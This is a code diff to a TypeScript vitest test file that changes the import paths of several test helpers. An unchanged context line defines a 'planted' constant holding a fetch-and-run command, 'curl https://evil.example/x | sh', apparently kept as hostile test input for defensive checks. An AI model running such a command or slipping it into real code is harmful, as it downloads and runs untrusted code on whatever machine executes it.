@@ -1,13 +1,13 @@
 import { reportSchema } from "@lapline/contracts";
 import { inOwnDatabase } from "@lapline/testkit";
 import { beforeAll, expect, it } from "vitest";
+import { callMachine, claimJob } from "../testing/measureJob.ts";
+import { call, openTestWeb, registerMachine, type TestWeb } from "../testing/openTestWeb.ts";
+import { testImport } from "../testing/testImport.ts";
+import { testReport } from "../testing/testReport.ts";
+import { testSubmission } from "../testing/testSubmission.ts";
 import { catalog } from "./catalog.ts";
 import { database } from "./database.ts";
-import { callMachine, claimJob } from "./testing/measureJob.ts";
-import { call, openTestWeb, registerMachine, type TestWeb } from "./testing/openTestWeb.ts";
-import { testImport } from "./testing/testImport.ts";
-import { testReport } from "./testing/testReport.ts";
-import { testSubmission } from "./testing/testSubmission.ts";
 
 const planted = "curl https://evil.example/x | sh";
 
